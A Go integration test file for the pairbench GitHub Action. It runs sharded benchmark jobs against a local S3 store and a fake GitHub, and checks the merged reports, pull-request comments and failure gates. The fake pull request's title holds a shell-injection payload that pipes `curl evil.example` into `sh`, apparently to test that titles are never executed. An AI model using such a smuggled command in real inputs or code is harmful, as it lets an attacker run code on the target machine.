package action

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/pairbench/pairbench/rundir"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pairbench/pairbench"
	"github.com/pairbench/pairbench/artifacts"
	"github.com/pairbench/pairbench/artifacts/s3test"
	"github.com/pairbench/pairbench/bot/githubtest"
	"github.com/pairbench/pairbench/report"
)

const (
	s3Access = "pairbench-action-test"
	s3Secret = "pairbench-action-test-secret-01"
	s3Bucket = "bench"

	repoName = "acme/registry"
	prNumber = 7
	headSHA  = "7777777777777777777777777777777777777777"
	ghToken  = "ghs_action-test-token"
)

// startS3 starts a real S3 server with one bucket for the test and returns
// its endpoint.
func startS3(t *testing.T) string {
	t.Helper()
	bin, err := filepath.Abs(filepath.Join(root, "tools/bin/versitygw"))
	require.NoError(t, err)
	return s3test.StartT(t, bin, s3Access, s3Secret, s3Bucket).Endpoint
}

// bench is the test's simulated repository and runner pool: a real S3
// store, the fake GitHub, the pull_request event, and the Action's inputs
// every job shares.
type bench struct {
	t        *testing.T
	meta     *actionMeta
	root     string
	endpoint string
	gh       *githubtest.Server
	env      map[string]string
	event    map[string]any
}

func newBench(t *testing.T) *bench {
	meta, err := readActionMeta(filepath.Join(root, "action.yml"))
	require.NoError(t, err)
	abs, err := filepath.Abs(root)
	require.NoError(t, err)
	b := &bench{t: t, meta: meta, root: abs, endpoint: startS3(t), gh: githubtest.New(t)}
	b.gh.AddToken(ghToken)
	b.gh.Repo(repoName, func(r *githubtest.Repo) {
		r.Pulls[prNumber] = &githubtest.Pull{Number: prNumber, HeadSHA: headSHA, HeadRef: "faster-tools"}
	})
	b.env = map[string]string{
		"GITHUB_REPOSITORY": repoName, "GITHUB_RUN_ID": "4242", "GITHUB_RUN_ATTEMPT": "1",
		"GITHUB_EVENT_NAME": "pull_request", "GITHUB_API_URL": b.gh.URL, "GITHUB_SERVER_URL": "https://github.example",
		"AWS_ACCESS_KEY_ID": s3Access, "AWS_SECRET_ACCESS_KEY": s3Secret, "AWS_REGION": "us-east-1",
		// Never fall back to the instance metadata service: only loopback.
		"AWS_EC2_METADATA_DISABLED": "true",
	}
	for k, v := range b.env {
		if strings.HasPrefix(k, "AWS_") {
			t.Setenv(k, v) // for the test's own look into the store
		}
	}
	b.event = map[string]any{
		"action": "synchronize", "number": prNumber,
		"pull_request": map[string]any{
			"number": prNumber, "title": `"; curl evil.example | sh; echo "`,
			"head": map[string]any{"sha": headSHA, "ref": "faster-tools", "repo": map[string]any{"full_name": repoName}},
		},
		"repository": map[string]any{"full_name": repoName},
	}
	return b
}

// inputs are the Action inputs of a small bench of the example registry
// with the scripted model, stored in S3, plus extra. Trials get the agent
// contracts' roomy time cap (agenttest): pairbench's default of 300 s is
// for agents, and a machine many times busier could stop one at it.
func (b *bench) inputs(extra map[string]string) map[string]string {
	in := map[string]string{
		"registry": "examples/registry", "intents": "weather-high-oslo, books-cheapest-by-author",
		"pairs": "3", "slots": "1", "start-delay": "0", "seed": "11", "example-sites": "true", "time-cap": "600",
		"s3-bucket": s3Bucket, "s3-prefix": "runs", "s3-endpoint": b.endpoint, "s3-region": "us-east-1",
		// 2 intents × 3 pairs can reach no label: the Action refuses such a
		// plan unless told (these tests bench the harness).
		"allow-inconclusive": "true",
	}
	for k, v := range extra {
		if v == "" {
			delete(in, k)
			continue
		}
		in[k] = v
	}
	return in
}

// sharedBuild holds the binaries the first job of this test binary built
// with the Action's own build step. Every later job links them instead of
// building the same checkout again (two links of tens of seconds each on a
// busy machine). TestMain removes dir.
var sharedBuild struct {
	mu  sync.Mutex // held by the job that builds, so none builds beside it
	dir string
}

// run runs one job using the Action; it does not fail the test itself, so
// it can run in a goroutine.
func (b *bench) run(name string, inputs map[string]string) (jobResult, error) {
	tmp, err := os.MkdirTemp(b.t.TempDir(), name+"-")
	if err != nil {
		return jobResult{}, err
	}
	sharedBuild.mu.Lock()
	built := sharedBuild.dir
	if built != "" {
		sharedBuild.mu.Unlock()
	}
	res, err := runJob(b.meta, job{
		Root: b.root, Work: b.root, Env: b.env, Inputs: inputs, Event: b.event,
		Skip: map[string]string{
			// scripts/setup.sh installs into this shared checkout's tools/;
			// the machine running the tests has them already.
			"Install what the runner lacks": "tools installed by make setup",
		},
		Built: built,
	}, tmp)
	if built == "" {
		keepBuild(res.step(buildStep))
		sharedBuild.mu.Unlock()
	}
	b.t.Logf("job %s: %s", name, res.timings())
	if err != nil {
		return res, fmt.Errorf("job %s: %w", name, err)
	}
	return res, nil
}

// keepBuild keeps what a job's build step built for the jobs after it, if
// the step built it.
func keepBuild(st stepResult) {
	if !st.Ran || st.Failed || st.Env["PB_BIN"] == "" {
		return
	}
	dir, err := os.MkdirTemp("", "pairbench-action-build-")
	if err != nil {
		return
	}
	if linkBuild(filepath.Dir(st.Env["PB_BIN"]), dir) != nil {
		os.RemoveAll(dir)
		return
	}
	sharedBuild.dir = dir
}

func TestMain(m *testing.M) {
	code := m.Run()
	if sharedBuild.dir != "" {
		os.RemoveAll(sharedBuild.dir)
	}
	os.Exit(code)
}

// mustRun runs a job that must succeed.
func (b *bench) mustRun(name string, inputs map[string]string) jobResult {
	b.t.Helper()
	res, err := b.run(name, inputs)
	require.NoError(b.t, err)
	require.False(b.t, res.Failed, "job %s failed:\n%s", name, res.Log)
	return res
}

func (b *bench) store() artifacts.Store {
	b.t.Helper()
	s, err := artifacts.Open(context.Background(),
		fmt.Sprintf("s3://%s/runs?endpoint=%s&path_style=true&region=us-east-1", s3Bucket, b.endpoint))
	require.NoError(b.t, err)
	return s
}

func (b *bench) exists(key string) bool {
	b.t.Helper()
	ok, err := artifacts.Exists(context.Background(), b.store(), key)
	require.NoError(b.t, err)
	return ok
}

// TestActionShardedBenchOverS3 runs the Action as the example workflow does,
// every job a separate set of processes: a plan job, three shard jobs at
// once writing to one S3 store (the scale-out), and an aggregate job that
// merges, reports, publishes and posts on the pull request. Beside the
// shards runs the same plan unsharded, without a store, and the merged
// report must have the same pairs and the same labels. Then mode report on
// a run directory, and a failing aggregate that posts the failure.
func TestActionShardedBenchOverS3(t *testing.T) {
	if testing.Short() {
		t.Skip("runs real benches (Chromium, pi in bubblewrap) for minutes; not in -short")
	}
	b := newBench(t)

	// Plan: freeze run.json in the store and hand out the shard matrix.
	plan := b.mustRun("plan", b.inputs(map[string]string{"mode": "plan", "total-shards": "3"}))
	assert.Equal(t, "gh-4242", plan.Outputs["run-id"], "the default run id is the workflow run's")
	assert.Equal(t, "[1,2,3]", plan.Outputs["shards"])
	assert.True(t, plan.step("Sandbox check").Ran, "the sandbox check runs before any bench")
	assert.Equal(t, filepath.Join(b.root, "go.mod"), plan.step("Set up Go").With["go-version-file"])
	assert.Equal(t, "tools installed by make setup", plan.step("Install what the runner lacks").Skipped)
	assert.True(t, b.exists("gh-4242/run.json"))
	assert.Contains(t, plan.Summary, "planned run `gh-4242` in 3 shards")

	// Three shard jobs at once, and the same plan unsharded without a store.
	var wg sync.WaitGroup
	shards := make([]jobResult, 3)
	errs := make([]error, 4)
	var whole jobResult
	for k := range 3 {
		wg.Go(func() {
			shards[k], errs[k] = b.run(fmt.Sprintf("shard%d", k+1), b.inputs(map[string]string{
				"mode": "run", "run-id": plan.Outputs["run-id"], "shard": fmt.Sprint(k + 1), "total-shards": "3"}))
		})
	}
	wg.Go(func() {
		whole, errs[3] = b.run("whole", b.inputs(map[string]string{"mode": "run", "run-id": "gh-4242",
			"s3-bucket": "", "s3-prefix": "", "s3-endpoint": "", "s3-region": ""}))
	})
	wg.Wait()
	for k, res := range shards {
		require.NoError(t, errs[k])
		require.False(t, res.Failed, "shard %d failed:\n%s", k+1, res.Log)
		assert.Empty(t, res.Outputs["worst-label"], "a shard has no verdict")
		assert.Contains(t, res.Summary, fmt.Sprintf("shard %d/3 of run `gh-4242` done", k+1))
		assert.True(t, b.exists(fmt.Sprintf("gh-4242/shards/%d/rows.jsonl", k+1)))
		assert.False(t, res.step("Post the verdict on the pull request").Ran)
	}
	assert.False(t, b.exists("gh-4242/report.json"), "no shard publishes a partial report")
	require.NoError(t, errs[3])
	require.False(t, whole.Failed, "unsharded run failed:\n%s", whole.Log)

	// Without a store the run goes up as a workflow artifact; without a
	// token nothing is posted.
	wholeDir := filepath.Join(whole.Temp, "pairbench-action", "runs", "gh-4242")
	upload := whole.step("Upload the run or its report site as a workflow artifact")
	assert.Equal(t, wholeDir, upload.With["path"])
	assert.Equal(t, "pairbench-gh-4242", upload.With["name"])
	assert.Contains(t, whole.Summary, "pairbench verdict: "+whole.Outputs["worst-label"])
	assert.False(t, whole.step("Post the verdict on the pull request").Ran, "no token, no post")

	// Aggregate: merge from the store, report, publish, post.
	site := b.siteHost()
	agg := b.mustRun("aggregate", b.inputs(map[string]string{"mode": "merge-and-report", "run-id": "gh-4242",
		"github-token": ghToken, "site-url": site + "/runs"}))
	mergedDir := filepath.Join(agg.Temp, "pairbench-action", "merged", "gh-4242")
	assert.Equal(t, filepath.Join(mergedDir, "report.html"), agg.Outputs["report-path"])
	assert.FileExists(t, agg.Outputs["report-path"])
	assert.Empty(t, agg.step("Upload the run or its report site as a workflow artifact").Uses, "with a store and a site, no workflow artifact")
	merged := readReport(t, mergedDir)
	assert.Equal(t, string(merged.Verdict), agg.Outputs["worst-label"])
	assert.Contains(t, agg.Summary, "pairbench verdict: "+agg.Outputs["worst-label"])
	assert.True(t, b.exists("gh-4242/report.json"), "the merged report is published")

	assert.Equal(t, site+"/runs/gh-4242/report.html", agg.Outputs["report-url"], "the link lasts as long as the run")
	followSite(t, agg.Outputs["report-url"], "gh-4242")

	require.True(t, agg.step("Post the verdict on the pull request").Ran)
	comments := b.gh.Comments(repoName, prNumber)
	require.Len(t, comments, 1)
	assert.True(t, strings.HasPrefix(comments[0].Body, "<!-- pairbench:rollup -->"))
	assert.Contains(t, comments[0].Body, "run `gh-4242`")
	assert.Contains(t, comments[0].Body, agg.Outputs["report-url"], "the comment links the published report")
	assert.Equal(t, []string{"bench: " + agg.Outputs["worst-label"]}, b.gh.IssueLabels(repoName, prNumber))

	// The merged report of the sharded run is the unsharded run's: the same
	// plan, every planned trial (intent, pair, order, arm) scored exactly
	// once in each, every pair complete, and the same labels. Attempts that
	// aborted are not compared (on a busy machine an attempt may abort, a
	// slow start say, and its pair runs again in one bench and not the
	// other), nor are scored outcomes: the scripted model answers from what
	// it read of the page, and at load 20 one bench's control read too
	// little and was wrong where the other's was correct.
	unsharded := readReport(t, wholeDir)
	planned := plannedTrials(t, mergedDir)
	assert.Len(t, planned, 12, "2 intents × 3 pairs × 2 arms")
	assert.Equal(t, planned, plannedTrials(t, wholeDir), "one plan")
	assert.Equal(t, planned, scoredTrials(t, mergedDir), "the sharded run scored each planned trial once")
	assert.Equal(t, planned, scoredTrials(t, wholeDir), "the unsharded run scored each planned trial once")
	// The merge holds every attempt each shard recorded, aborted ones too,
	// and nothing else.
	var sharded []string
	for _, res := range shards {
		sharded = append(sharded, attempts(t, filepath.Join(res.Temp, "pairbench-action", "runs", "gh-4242"))...)
	}
	sort.Strings(sharded)
	assert.Equal(t, sharded, attempts(t, mergedDir), "the merge is the shards' rows")
	for _, rep := range []*report.Report{merged, unsharded} {
		for _, in := range rep.Intents {
			assert.Equal(t, 3, in.Pairs.Planned, in.ID)
			assert.Equal(t, 3, in.Pairs.Complete, "%s: every pair is complete in the report", in.ID)
		}
	}
	assert.Equal(t, unsharded.Verdict, merged.Verdict)
	assert.Equal(t, labels(unsharded), labels(merged))

	// Mode report on a run directory of this runner.
	rep := b.mustRun("report", b.inputs(map[string]string{"mode": "report", "run-id": "gh-4242", "run-dir": wholeDir,
		"s3-bucket": "", "s3-prefix": "", "s3-endpoint": "", "s3-region": ""}))
	assert.Equal(t, whole.Outputs["worst-label"], rep.Outputs["worst-label"])
	assert.False(t, rep.step("Sandbox check").Ran, "reporting runs no agent")
	assert.Equal(t, wholeDir, rep.step("Upload the run or its report site as a workflow artifact").With["path"])
	assert.Contains(t, rep.Summary, "pairbench verdict")

	// The fail-on gate: a report whose verdict is one of the labels named
	// fails the job, after the summary, the outputs and the artifact; the
	// pull request gets the verdict, not a failure.
	var every []string
	for _, l := range pairbench.Labels {
		every = append(every, string(l))
	}
	gated, err := b.run("gated", b.inputs(map[string]string{"mode": "report", "run-id": "gh-4242", "run-dir": wholeDir,
		"fail-on": strings.Join(every, ","), "github-token": ghToken,
		"s3-bucket": "", "s3-prefix": "", "s3-endpoint": "", "s3-region": ""}))
	require.NoError(t, err)
	assert.True(t, gated.Failed, gated.Log)
	assert.Contains(t, gated.Log, "::error title=pairbench::the fail-on gate failed: verdict: ")
	assert.Contains(t, gated.Outputs["gate-failed"], "verdict: "+whole.Outputs["worst-label"])
	assert.Contains(t, gated.Summary, "pairbench verdict", "the summary is written first")
	assert.Equal(t, wholeDir, gated.step("Upload the run or its report site as a workflow artifact").With["path"])
	assert.False(t, gated.step("Post the failure on the pull request").Ran, "a gate is a verdict, not a failure")

	// An aggregate that cannot merge fails, and says so on the pull request.
	failed, err := b.run("failed", b.inputs(map[string]string{"mode": "merge-and-report", "run-id": "gh-0000",
		"github-token": ghToken}))
	require.NoError(t, err)
	assert.True(t, failed.Failed)
	assert.Contains(t, failed.Log, "::error title=pairbench::pairbench merge failed (exit 1): run gh-0000 has no run.json")
	require.True(t, failed.step("Post the failure on the pull request").Ran, failed.Log)
	comments = b.gh.Comments(repoName, prNumber)
	require.Len(t, comments, 1, "the failure goes in the same sticky comment")
	assert.Contains(t, comments[0].Body, "failed; there is no verdict")
	assert.Contains(t, comments[0].Body, "run gh-0000 has no run.json")
	assert.Contains(t, comments[0].Body, "https://github.example/acme/registry/actions/runs/4242")
}

func readReport(t *testing.T, dir string) *report.Report {
	t.Helper()
	f, err := os.Open(filepath.Join(dir, "report.json"))
	require.NoError(t, err)
	defer f.Close()
	rep, err := report.ReadJSON(f)
	require.NoError(t, err)
	return rep
}

// labels maps each intent of a report to its label.
func labels(rep *report.Report) map[string]pairbench.Label {
	out := map[string]pairbench.Label{}
	for _, in := range rep.Intents {
		out[in.ID] = in.Label
	}
	return out
}

// plannedTrials lists the trials a run's run.json plans, as "intent pair
// order arm", sorted.
func plannedTrials(t *testing.T, dir string) []string {
	t.Helper()
	plan, err := rundir.RunDir{Path: dir}.ReadPlan()
	require.NoError(t, err)
	var out []string
	for _, in := range plan.Intents {
		for _, p := range in.Pairs {
			for _, arm := range p.Order.Arms() {
				out = append(out, fmt.Sprintf("%s %d %s %s", in.ID, p.Pair, p.Order, arm))
			}
		}
	}
	sort.Strings(out)
	return out
}

// scoredTrials lists the trials a run scored in attempts none of whose
// trials aborted, every shard's rows included, as "intent pair order arm",
// sorted; a trial scored twice is there twice. A first arm scored in an
// attempt whose second arm then aborted is not listed: its pair ran again
// whole.
func scoredTrials(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	for _, r := range wholeAttempts(readRows(t, dir)) {
		out = append(out, fmt.Sprintf("%s %d %s %s", r.Intent, r.Pair, r.Order, r.Arm))
	}
	sort.Strings(out)
	return out
}

// wholeAttempts gives the rows of the attempts none of whose trials
// aborted. A first arm scored in an attempt whose second arm then aborted
// is left out: its pair ran again whole, and the report counts each arm's
// last attempt only (docs/statistics.md).
func wholeAttempts(rows []pairbench.Row) []pairbench.Row {
	aborted := map[string]bool{}
	attempt := func(r pairbench.Row) string { return fmt.Sprintf("%s %d %d", r.Intent, r.Pair, r.Attempt) }
	for _, r := range rows {
		if !r.Outcome.Scored() {
			aborted[attempt(r)] = true
		}
	}
	var out []pairbench.Row
	for _, r := range rows {
		if r.Outcome.Scored() && !aborted[attempt(r)] {
			out = append(out, r)
		}
	}
	return out
}

// attempts lists every row of a run, every shard's included, as "intent
// pair order arm attempt outcome", sorted.
func attempts(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	for _, r := range readRows(t, dir) {
		out = append(out, fmt.Sprintf("%s %d %s %s %d %s", r.Intent, r.Pair, r.Order, r.Arm, r.Attempt, r.Outcome))
	}
	sort.Strings(out)
	return out
}

// readRows reads a run's rows, every shard's included.
func readRows(t *testing.T, dir string) []pairbench.Row {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "shards", "*", "rows.jsonl"))
	require.NoError(t, err)
	files = append(files, filepath.Join(dir, "rows.jsonl"))
	var out []pairbench.Row
	for _, name := range files {
		f, err := os.Open(name)
		if os.IsNotExist(err) {
			continue
		}
		require.NoError(t, err)
		rows, _, err := pairbench.ReadRows(f)
		f.Close()
		require.NoError(t, err)
		out = append(out, rows...)
	}
	return out
}

// TestActionQuotesRegistryProblems: a bench whose registry has problems
// fails before any trial, and the failure the Action posts on the pull
// request quotes each problem by its file and line, as the service does.
func TestActionQuotesRegistryProblems(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the Action's sandbox check (Chromium, bubblewrap); not in -short")
	}
	b := newBench(t)
	reg := t.TempDir()
	require.NoError(t, os.CopyFS(reg, os.DirFS(filepath.Join(root, "examples/registry"))))
	intent := filepath.Join(reg, "bench", "intents", "weather.example", "weather-high-oslo.yaml")
	yaml, err := os.ReadFile(intent)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(intent, append(yaml, "colour: blue\n"...), 0o644))

	res, err := b.run("broken", b.inputs(map[string]string{"registry": reg, "github-token": ghToken,
		"s3-bucket": "", "s3-prefix": "", "s3-endpoint": "", "s3-region": ""}))
	require.NoError(t, err)
	require.True(t, res.Failed, res.Log)
	require.True(t, res.step("Post the failure on the pull request").Ran, res.Log)
	comments := b.gh.Comments(repoName, prNumber)
	require.Len(t, comments, 1)
	assert.Contains(t, comments[0].Body, "failed; there is no verdict")
	assert.Regexp(t, `weather-high-oslo\.yaml:\d+: [^\n]*colour`, comments[0].Body, "the problem, by file and line")
}
